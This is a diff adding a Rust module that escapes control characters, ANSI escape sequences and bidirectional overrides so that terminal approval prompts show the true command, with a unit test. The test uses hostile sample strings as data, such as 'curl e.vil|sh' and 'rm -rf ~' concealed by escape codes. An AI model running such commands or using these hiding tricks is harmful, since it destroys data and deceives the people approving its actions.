@@ -1,0 +1,100 @@
+//! Text from the model, a repository or a server, made safe to show on a terminal. A carriage
+//! return, a backspace or an escape sequence could otherwise make an approval prompt show one
+//! command while another runs (`ls -la` drawn over `curl … | sh`), and bidirectional overrides
+//! can reorder what is read. Each such character is shown as a visible escape instead.
+
+use std::fmt::Write;
+
+/// Whether `c` must not reach a terminal as it is.
+fn is_dangerous(c: char) -> bool {
+    c.is_control()
+        || matches!(c,
+            '\u{200e}' | '\u{200f}' | '\u{061c}'          // directional marks
+            | '\u{202a}'..='\u{202e}'                     // embeddings and overrides
+            | '\u{2066}'..='\u{2069}'                     // isolates
+            | '\u{2028}' | '\u{2029}'                     // line and paragraph separators
+            | '\u{feff}' | '\u{fff9}'..='\u{fffb}')
+}
+
+fn push_escaped(out: &mut String, c: char) {
+    match c {
+        '\n' => out.push_str("\\n"),
+        '\r' => out.push_str("\\r"),
+        '\t' => out.push_str("\\t"),
+        '\u{1b}' => out.push_str("\\e"),
+        c if (c as u32) < 0x100 => {
+            let _ = write!(out, "\\x{:02x}", c as u32);
+        }
+        c => {
+            let _ = write!(out, "\\u{{{:04x}}}", c as u32);
+        }
+    }
+}
+
+/// One line: every control character (newlines and tabs too) and bidi control escaped.
+pub fn escape_controls(text: &str) -> String {
+    if !text.chars().any(is_dangerous) {
+        return text.to_string();
+    }
+    let mut out = String::with_capacity(text.len() + 16);
+    for c in text.chars() {
+        if is_dangerous(c) {
+            push_escaped(&mut out, c);
+        } else {
+            out.push(c);
+        }
+    }
+    out
+}
+
+/// Several lines: newlines and tabs kept, everything else as [`escape_controls`].
+pub fn escape_controls_keep_lines(text: &str) -> String {
+    if !text
+        .chars()
+        .any(|c| c != '\n' && c != '\t' && is_dangerous(c))
+    {
+        return text.to_string();
+    }
+    let mut out = String::with_capacity(text.len() + 16);
+    for c in text.chars() {
+        if c != '\n' && c != '\t' && is_dangerous(c) {
+            push_escaped(&mut out, c);
+        } else {
+            out.push(c);
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn every_way_to_hide_text_is_made_visible() {
+        for (raw, shown) in [
+            (
+                "touch x; curl e.vil|sh\r$ ls -la",
+                "touch x; curl e.vil|sh\\r$ ls -la",
+            ),
+            ("rm -rf ~\x1b[2K\x1b[1G$ ls", "rm -rf ~\\e[2K\\e[1G$ ls"),
+            ("evil\x1b]0;title\x07", "evil\\e]0;title\\x07"),
+            ("ab\x08\x08cd", "ab\\x08\\x08cd"),
+            ("a\x7fb", "a\\x7fb"),
+            ("c1\u{9b}31m", "c1\\x9b31m"),
+            ("safe \u{202e}txt.exe", "safe \\u{202e}txt.exe"),
+            ("x\u{2066}y\u{2069}", "x\\u{2066}y\\u{2069}"),
+            ("line\u{2028}break", "line\\u{2028}break"),
+            ("zero\u{200f}width", "zero\\u{200f}width"),
+            ("two\nlines\tand tab", "two\\nlines\\tand tab"),
+            ("nul\0byte", "nul\\x00byte"),
+            ("plain text, 中文, émoji 🎉", "plain text, 中文, émoji 🎉"),
+        ] {
+            assert_eq!(escape_controls(raw), shown, "{raw:?}");
+        }
+        assert_eq!(
+            escape_controls_keep_lines("a\n\tb\r\nc\x1b[31m"),
+            "a\n\tb\\r\nc\\e[31m"
+        );
+    }
+}
